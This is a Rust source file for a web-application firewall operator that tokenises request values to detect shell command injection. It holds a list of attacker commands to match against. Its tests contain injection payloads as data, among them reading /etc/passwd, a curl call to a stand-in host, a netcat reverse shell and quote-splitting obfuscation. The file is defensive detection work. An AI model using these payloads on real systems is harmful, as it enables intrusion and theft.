//! `warden_shell_injection` (a Warden extension operator): does a request value, pasted into
//! a shell command line as an argument, start a new command?
//!
//! Regexes see characters; this sees the shell's grammar. The value is tokenised by the same
//! shell tokenizer as `shi_detector`, in the three places an application puts an argument:
//! bare (`cmd VALUE`), single-quoted (`cmd 'VALUE'`) and double-quoted (`cmd "VALUE"`). It
//! matches when, in one of them, the value itself produces an executable token (after `;`,
//! `|`, `&&`, a newline, `$(`, a backtick, `<(`) whose name, once quotes, backslashes and
//! empty expansions (`$@`, `${x}`) are removed, is a command attackers run. Prose with a
//! semicolon ("salt; pepper") starts a "command" too, which is why the name must be known.

use super::shell::{Kind, tokenize};

/// Commands whose execution from a request value means command injection. Wrappers
/// (`sudo`, `time`, `env`, ...) are looked through.
const COMMANDS: &[&str] = &[
    "adduser",
    "ansible",
    "apk",
    "apt-get",
    "awk",
    "base32",
    "base64",
    "bash",
    "bsdtar",
    "busybox",
    "bzip2",
    "cat",
    "certutil",
    "chattr",
    "chgrp",
    "chmod",
    "chown",
    "chroot",
    "cmd",
    "cmd.exe",
    "cp",
    "cpulimit",
    "crontab",
    "csh",
    "curl",
    "dash",
    "dd",
    "dig",
    "dmesg",
    "docker",
    "echo",
    "egrep",
    "env",
    "fgrep",
    "ftp",
    "gawk",
    "gcc",
    "gdb",
    "getent",
    "git",
    "grep",
    "gunzip",
    "gzip",
    "hexdump",
    "hostname",
    "id",
    "ifconfig",
    "ip",
    "ipconfig",
    "iptables",
    "java",
    "jq",
    "killall",
    "ksh",
    "kubectl",
    "lastlog",
    "ln",
    "ls",
    "lsof",
    "lua",
    "lwp-download",
    "lwp-request",
    "mkdir",
    "mkfifo",
    "mknod",
    "mount",
    "mshta",
    "mv",
    "nc",
    "ncat",
    "netcat",
    "netstat",
    "nl",
    "nmap",
    "node",
    "nohup",
    "nslookup",
    "od",
    "openssl",
    "passwd",
    "perl",
    "php",
    "pkill",
    "ping",
    "pip",
    "pip3",
    "powershell",
    "printenv",
    "printf",
    "ps",
    "pwd",
    "pwsh",
    "python",
    "python2",
    "python3",
    "rcp",
    "reg",
    "rm",
    "rmdir",
    "rsync",
    "ruby",
    "scp",
    "sed",
    "setsid",
    "sftp",
    "sh",
    "socat",
    "ssh",
    "strings",
    "sudo",
    "systemctl",
    "systeminfo",
    "tac",
    "tar",
    "tasklist",
    "tclsh",
    "tcpdump",
    "tcsh",
    "telnet",
    "tftp",
    "traceroute",
    "uname",
    "unzip",
    "uptime",
    "useradd",
    "usermod",
    "vi",
    "vim",
    "wget",
    "whoami",
    "wmic",
    "xargs",
    "xterm",
    "xxd",
    "zcat",
    "zsh",
    "zstdcat",
];

const WRAPPERS: &[&str] = &[
    "sudo", "time", "nohup", "env", "timeout", "xargs", "exec", "command", "builtin", "busybox",
    "nice", "setsid", "stdbuf", "doas",
];

/// The contexts an argument is pasted into: (prefix, suffix).
const CONTEXTS: &[(&str, &str)] = &[("x ", ""), ("x '", "'"), ("x \"", "\"")];

/// Returns the injected command name, if any.
pub(crate) fn injected_command(value: &[u8]) -> Option<String> {
    // Cheap gate: no byte that can end a command or open a substitution, no injection.
    if !value
        .iter()
        .any(|b| matches!(b, b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'<' | b'>'))
    {
        return None;
    }
    let value = std::str::from_utf8(value).ok()?;
    let mut line = String::with_capacity(value.len() + 4);
    for (prefix, suffix) in CONTEXTS {
        line.clear();
        line.push_str(prefix);
        line.push_str(value);
        line.push_str(suffix);
        let tokens = tokenize(&line);
        let mut i = 0;
        while i < tokens.len() {
            let t = tokens[i];
            i += 1;
            if t.kind != Kind::Executable || t.start < prefix.len() {
                continue;
            }
            let mut name = command_name(&line[t.start..t.end]);
            // Look through wrappers: `sudo cat`, `time curl`, `env -i sh`.
            let mut j = i;
            while WRAPPERS.contains(&name.as_str()) {
                let Some(next) = tokens[j..]
                    .iter()
                    .find(|n| n.kind == Kind::Field && !line[n.start..n.end].starts_with('-'))
                else {
                    break;
                };
                j = tokens
                    .iter()
                    .position(|x| x.start == next.start)
                    .map_or(j, |p| p + 1);
                let inner = command_name(&line[next.start..next.end]);
                if inner.is_empty() || inner == name {
                    break;
                }
                name = inner;
            }
            if COMMANDS.contains(&name.as_str()) {
                return Some(name);
            }
        }
    }
    None
}

/// A command word without quotes, backslashes, empty expansions and directory part. Case is
/// kept: Unix command names are case-sensitive, and prose lines start with a capital.
fn command_name(word: &str) -> String {
    let b = word.as_bytes();
    let mut out = String::with_capacity(word.len());
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'\'' | b'"' | b'\\' => i += 1,
            b'$' => {
                // $@ $* $1 ${...} $name: expansions attackers use as empty strings.
                i += 1;
                match b.get(i) {
                    Some(b'@' | b'*' | b'0'..=b'9') => i += 1,
                    Some(b'{') => {
                        while i < b.len() && b[i] != b'}' {
                            i += 1;
                        }
                        i += 1;
                    }
                    _ => {
                        while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
                            i += 1;
                        }
                    }
                }
            }
            c => {
                out.push(char::from(c));
                i += 1;
            }
        }
    }
    match out.rsplit_once('/') {
        Some((_, base)) => base.to_string(),
        None => out,
    }
}

#[cfg(test)]
mod tests {
    use super::injected_command as inj;

    #[test]
    fn finds_commands_started_by_the_value() {
        assert_eq!(inj(b";cat /etc/passwd").as_deref(), Some("cat"));
        assert_eq!(inj(b"x | w'h'o'am'i").as_deref(), Some("whoami"));
        assert_eq!(inj(b"$(curl evil.example)").as_deref(), Some("curl"));
        assert_eq!(inj(b"a`/bin/id`").as_deref(), Some("id"));
        assert_eq!(inj(b"';sudo c$@at x;'").as_deref(), Some("cat"));
        assert_eq!(
            inj(b"\"; time nc -e /bin/sh 1.2.3.4 80 #").as_deref(),
            Some("nc")
        );
        assert_eq!(inj(b"1\nwget http://x/y").as_deref(), Some("wget"));
    }

    #[test]
    fn leaves_prose_and_plain_arguments_alone() {
        for v in [
            "salt; pepper",
            "Tom & Jerry",
            "ls -la",
            "a hero; more than",
            "price: $5 | tax: $1",
            "R&D and Q&A",
            "cat",
            "https://example.com/?a=1&b=2",
        ] {
            assert_eq!(inj(v.as_bytes()), None, "{v}");
        }
    }
}
